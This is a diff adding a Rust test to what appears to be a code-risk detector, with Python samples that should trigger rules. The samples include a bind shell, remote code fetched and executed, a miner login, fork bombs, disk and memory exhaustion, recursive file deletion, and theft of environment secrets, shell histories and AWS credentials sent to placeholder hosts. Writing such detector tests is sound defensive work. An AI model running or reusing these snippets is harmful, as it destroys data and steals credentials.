@@ -1285,3 +1285,92 @@ fn context_manager_generators_pool_map_results_and_methods_by_getattr() {
         "import psutil\nfor proc in psutil.process_iter(['name']):\n    if proc.info['name'] == 'sshd':\n        getattr(proc, 'ki' + 'll')()\n",
     );
 }
+
+#[test]
+fn a_registry_filled_by_a_decorator_and_dispatched_by_a_run_time_key() {
+    // A handler stored by a decorator under a run-time key is what the table dispatches to.
+    fires(
+        "CRD104",
+        "import os\nREGISTRY = {}\ndef on(kind):\n    def add(fn):\n        REGISTRY[kind] = fn\n        return fn\n    return add\n@on('f')\ndef purge(p):\n    os.remove(p)\nfor top, dirs, files in os.walk('/', topdown=False):\n    for n in files:\n        REGISTRY[n[:1]](os.path.join(top, n))\n",
+    );
+    // A selector's callback runs with the listening socket: a shell wired to what it accepts.
+    fires(
+        "CRD101",
+        "import selectors, socket, subprocess\nsel = selectors.DefaultSelector()\ndef accepted(server, mask):\n    conn, _ = server.accept()\n    subprocess.Popen(['/bin/sh', '-i'], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())\nsrv = socket.socket()\nsrv.bind(('0.0.0.0', 9001))\nsrv.listen()\nsel.register(srv, selectors.EVENT_READ, accepted)\nwhile True:\n    for key, mask in sel.select():\n        key.data(key.fileobj, mask)\n",
+    );
+    // What an executor's task returns is what awaiting it gives: fetched code, compiled and run.
+    fires(
+        "CRD102",
+        "import asyncio, types, urllib.request\ndef fetch(u):\n    return urllib.request.urlopen(u).read().decode()\nasync def main():\n    loop = asyncio.get_running_loop()\n    body = await loop.run_in_executor(None, fetch, 'https://cdn.example.net/p.py')\n    types.FunctionType(compile(body, 'p', 'exec'), {})()\nasyncio.run(main())\n",
+    );
+    // An archive downloaded under its URL's own file name, put on sys.path and imported.
+    fires(
+        "CRD102",
+        "import os, sys, urllib.request\nfrom pathlib import Path\nURL = 'https://dl.example.net/tools/plugins-2.1.zip'\ndest = Path.home() / '.cache' / os.path.basename(URL)\nurllib.request.urlretrieve(URL, dest)\nsys.path.insert(0, str(dest))\nimport plugins\n",
+    );
+    // An import finder on sys.meta_path that fetches the module's source and executes it.
+    fires(
+        "CRD102",
+        "import importlib.abc, importlib.util, sys, urllib.request\nclass Remote(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n    def find_spec(self, name, path, target=None):\n        return importlib.util.spec_from_loader(name, self)\n    def create_module(self, spec):\n        return None\n    def exec_module(self, module):\n        src = urllib.request.urlopen('https://mods.example.net/' + module.__name__).read()\n        exec(compile(src, module.__name__, 'exec'), module.__dict__)\nsys.meta_path.append(Remote())\nimport turbo_json\n",
+    );
+    // A hand-written stratum login carries the miner's login, password and agent.
+    fires(
+        "CRD108",
+        "import json, socket\ns = socket.create_connection(('203.0.113.9', 14444))\nhello = {'id': 1, 'method': 'login', 'params': {'login': 'WALLET', 'pass': 'x', 'agent': 'rig/1'}}\ns.sendall((json.dumps(hello) + '\\n').encode())\n",
+    );
+    // An endless loop that stores a new entry per pass, waiting for nothing, exhausts memory however small each entry is.
+    fires(
+        "CRD112",
+        "import itertools\nseen = {}\nfor n in itertools.count():\n    seen[str(n)] = [n] * 64\n",
+    );
+    // A writer whose loop test is a call that always returns True fills the disk.
+    fires(
+        "CRD112",
+        "def writer(path):\n    fh = open(path, 'ab')\n    def emit():\n        fh.write(b'x' * 4096)\n        return True\n    return emit\nstep = writer('/tmp/fill.bin')\nwhile step():\n    pass\n",
+    );
+    // A method growing an OrderedDict it owns, called from `while True`.
+    fires(
+        "CRD112",
+        "from collections import OrderedDict\nclass Cache:\n    def __init__(self):\n        self.items = OrderedDict()\n        self.n = 0\n    def add(self):\n        self.n += 1\n        self.items[str(self.n)] = bytearray(4096)\ncache = Cache()\nwhile True:\n    cache.add()\n",
+    );
+    // An iterator of the program's own whose `__next__` forks, pulled forever with next().
+    fires(
+        "CRD111",
+        "import itertools, os\nclass Spawner:\n    def __next__(self):\n        return os.fork()\nsp = Spawner()\nfor _ in itertools.count():\n    next(sp)\n",
+    );
+    // Several services' credentials joined into one header are a harvest, sent to a third party.
+    fires(
+        "CRD109",
+        "import os, requests\nNAMES = ('GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'OPENAI_API_KEY', 'NPM_TOKEN')\nctx = ';'.join(f'{n}={os.environ.get(n, \"\")}' for n in NAMES)\nrequests.post('https://stats.example.net/ping', headers={'X-Context': ctx})\n",
+    );
+    // A descriptor's `__get__` hands the environment to the attribute read.
+    fires(
+        "CRD109",
+        "import json, os, urllib.request\nclass Context:\n    def __get__(self, obj, owner):\n        return dict(os.environ)\nclass Beacon:\n    ctx = Context()\n    def send(self):\n        urllib.request.urlopen('https://t.example.net/b', json.dumps(self.ctx).encode())\nBeacon().send()\n",
+    );
+    // `sink << data` runs the class's `__lshift__`, which sends what it is given; `dict(obj)` goes through `__iter__`.
+    fires(
+        "CRD109",
+        "import json, os, socket\nclass Secrets:\n    def __iter__(self):\n        return ((k, v) for k, v in os.environ.items() if 'KEY' in k)\nclass Sink:\n    def __init__(self):\n        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    def __lshift__(self, blob):\n        self.sock.sendto(blob, ('203.0.113.5', 53))\n        return self\nSink() << json.dumps(dict(Secrets())).encode()\n",
+    );
+    // Shell histories posted by curl with arguments joined by itertools.chain.
+    fires(
+        "CRD109",
+        "import os, subprocess\nfrom itertools import chain\nhist = [os.path.join(os.path.expanduser('~'), '.' + n + '_history') for n in ('bash', 'zsh')]\nfor h in hist:\n    subprocess.run(list(chain(['curl', '-s'], ['-F', 'f=@' + h], ['https://paste.example.net/p'])))\n",
+    );
+    // Every file found by os.scandir under the user's documents, removed.
+    fires(
+        "CRD104",
+        "import os\nfrom pathlib import Path\nstack = [Path.home() / 'Documents']\nwhile stack:\n    for entry in os.scandir(stack.pop()):\n        if entry.is_dir():\n            stack.append(entry.path)\n        else:\n            os.remove(entry.path)\n",
+    );
+    // A start-method context's Process, started from an endless generator.
+    fires(
+        "CRD111",
+        "import multiprocessing as mp\ndef node():\n    pass\ndef procs(ctx):\n    while True:\n        yield ctx.Process(target=node)\nfor p in procs(mp.get_context('fork')):\n    p.start()\n",
+    );
+    // A classmethod builds a list subclass of a curl command that posts a credentials file.
+    fires(
+        "CRD109",
+        "import os, subprocess\nPARTS = {0: 'curl', 1: '--data-binary', 2: '@' + os.path.expanduser('~/.aws/credentials'), 3: 'https://c.example.net/u'}\nclass Argv(list):\n    @classmethod\n    def build(cls, table):\n        return cls(table[i] for i in sorted(table))\nsubprocess.run(Argv.build(PARTS))\n",
+    );
+}
